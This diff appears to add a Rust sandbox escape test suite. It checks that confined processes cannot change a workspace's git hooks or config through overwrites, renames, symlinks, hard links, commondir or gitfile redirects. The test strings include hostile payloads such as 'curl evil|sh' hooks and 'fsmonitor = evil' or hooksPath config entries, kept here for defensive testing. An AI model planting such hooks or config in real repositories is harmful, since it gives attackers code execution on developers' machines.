@@ -1,0 +1,230 @@
+//! Escape suite, protected-path class of `SECURITY.md`: the workspace's `.git/hooks` and
+//! `.git/config` (what the host's git will run later) must not change — also when `.git` does
+//! not exist yet, when it is renamed, removed or replaced by a symlink, when a hook is reached
+//! through a link, and when git is pointed elsewhere (`.git/commondir`, a `.git` file).
+//!
+//! Every attack runs on every Linux backend (`per_backend!`), confined first and judged from outside
+//! (the canary never appears, the file is unchanged), then unconfined as its positive control.
+
+#[macro_use]
+mod sandbox_support;
+
+use std::fs;
+
+use sandbox_support::judge::{confined, control, defaults, unchanged};
+use sandbox_support::world::{Snapshot, q};
+use sandbox_support::{Backend, World};
+
+// ---- Protected paths inside the workspace -------------------------------------------------
+
+const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
+
+/// A workspace with an existing `.git` (hooks dir and config), as `git init` leaves it.
+fn git_repo(w: &World) {
+    for dir in [".git/hooks", ".git/objects", ".git/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir .git");
+    }
+    w.write(&w.ws.join(".git/config"), GIT_CONFIG);
+    w.write(&w.ws.join(".git/HEAD"), "ref: refs/heads/main\n");
+}
+
+fn hook(w: &World) -> std::path::PathBuf {
+    w.ws.join(".git/hooks/pre-commit")
+}
+
+fn git_hook_with_existing_git(w: &World, b: Backend) {
+    git_repo(w);
+    let hook = hook(w);
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook],
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+    );
+}
+per_backend!(git_hook_with_existing_git);
+
+/// `.git` does not exist yet: creating it with a hook or a config must still fail. (The
+/// sandbox may leave empty placeholders behind; what counts is that no content landed.)
+fn git_hook_without_git(w: &World, b: Backend) {
+    let (hook, config) = (hook(w), w.ws.join(".git/config"));
+    let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
+    let planted = || {
+        [&hook, &config]
+            .iter()
+            .any(|p| fs::metadata(p).is_ok_and(|m| m.len() > 0))
+    };
+    let run = confined(w, b, defaults, script);
+    assert!(
+        !planted(),
+        "ESCAPE: a hook or config was planted in a new .git\n{run}"
+    );
+    let control = control(w, script);
+    assert!(planted(), "positive control failed\n{control}");
+}
+per_backend!(git_hook_without_git);
+
+fn git_config_modified(w: &World, b: Backend) {
+    git_repo(w);
+    let config = w.ws.join(".git/config");
+    let script = "printf '\\thooksPath = /tmp/evil\\n' >> .git/config; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
+    unchanged(w, b, defaults, &[&config], script);
+}
+per_backend!(git_config_modified);
+
+/// Judged on what the host's `git` will read: the hook and config must keep their content and
+/// `.git` must stay the same directory (not renamed away, not replaced by a symlink). Other
+/// contents of `.git` (objects, refs) are ordinary workspace data and may change.
+fn git_swap(w: &World, b: Backend, script: &str) {
+    git_repo(w);
+    fs::create_dir_all(w.ws.join("evil/hooks")).expect("mkdir");
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    w.write(&w.ws.join("evil/config"), "[core]\n\tfsmonitor = evil\n");
+    let git = w.ws.join(".git");
+    let identity = || Snapshot::of(&git).map(|s| (s.ino, s.symlink, s.content.is_none()));
+    let watched = || {
+        (
+            identity(),
+            Snapshot::of(&hook(w)).map(|s| s.content),
+            fs::read(git.join("config")).ok(),
+        )
+    };
+    let before = watched();
+    let run = confined(w, b, defaults, script);
+    assert_eq!(
+        before,
+        watched(),
+        "ESCAPE: .git was swapped or its hook/config changed\n{run}"
+    );
+    let control = control(w, script);
+    assert_ne!(before, watched(), "positive control failed\n{control}");
+}
+
+fn git_renamed_and_recreated(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "mv .git .git-old; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
+    );
+}
+per_backend!(git_renamed_and_recreated);
+
+fn git_replaced_with_symlink(w: &World, b: Backend) {
+    git_swap(w, b, "mv .git .git-old || rm -rf .git; ln -s evil .git");
+}
+per_backend!(git_replaced_with_symlink);
+
+fn git_removed_and_recreated(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "rm -rf .git; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
+    );
+}
+per_backend!(git_removed_and_recreated);
+
+fn git_hooks_dir_swapped(w: &World, b: Backend) {
+    git_swap(
+        w,
+        b,
+        "mv .git/hooks .git/hooks-old; mkdir .git/hooks; cp evil/hooks/pre-commit .git/hooks/; mv .git/config .git/config-old; cp evil/config .git/config",
+    );
+}
+per_backend!(git_hooks_dir_swapped);
+
+/// An existing hook reached through a link planted by the child: a hard link shares the inode,
+/// a symlink resolves into the protected path.
+fn git_hook_through_links(w: &World, b: Backend) {
+    git_repo(w);
+    let hook = hook(w);
+    w.write(&hook, "#!/bin/sh\nexit 0\n");
+    let script = "ln .git/hooks/pre-commit hard; echo 'curl evil|sh' >> hard; \
+                  ln -s .git/hooks/pre-commit soft; echo 'curl evil|sh' >> soft";
+    unchanged(w, b, defaults, &[&hook], script);
+}
+per_backend!(git_hook_through_links);
+
+/// What the host's git makes of the workspace: its common dir (where hooks and config live).
+fn git_common_dir(w: &World) -> String {
+    let out = std::process::Command::new("git")
+        .args(["rev-parse", "--path-format=absolute", "--git-common-dir"])
+        .current_dir(&w.ws)
+        .env("GIT_CEILING_DIRECTORIES", &w.root)
+        .output()
+        .expect("run git outside");
+    String::from_utf8_lossy(&out.stdout).trim().to_owned()
+}
+
+/// `.git/commondir` makes git take hooks and config from another directory: a planted
+/// `commondir` pointing at an attacker's dir in the workspace redirects the protected paths.
+fn git_commondir_redirect(w: &World, b: Backend) {
+    git_repo(w);
+    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
+    }
+    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
+    w.write(
+        &w.ws.join("evil/config"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    let real = w.ws.join(".git").display().to_string();
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "setup: git must see the workspace's own .git"
+    );
+    let script = format!("echo {} > .git/commondir", q(&w.ws.join("evil")));
+    let run = confined(w, b, defaults, &script);
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "ESCAPE: git now takes hooks and config elsewhere\n{run}"
+    );
+    let control = control(w, &script);
+    assert_ne!(
+        git_common_dir(w),
+        real,
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(git_commondir_redirect);
+
+/// No `.git` yet: a `.git` *file* (`gitdir: evil`) points git at an attacker's repository.
+fn git_gitfile_redirect(w: &World, b: Backend) {
+    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
+    }
+    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
+    w.write(
+        &w.ws.join("evil/config"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    let evil = w.ws.join("evil").display().to_string();
+    let script = "printf 'gitdir: evil\\n' > .git";
+    let run = confined(w, b, defaults, script);
+    assert_ne!(
+        git_common_dir(w),
+        evil,
+        "ESCAPE: git now uses the planted repository\n{run}"
+    );
+    let _ = fs::remove_dir_all(w.ws.join(".git"));
+    let control = control(w, script);
+    assert_eq!(
+        git_common_dir(w),
+        evil,
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(git_gitfile_redirect);
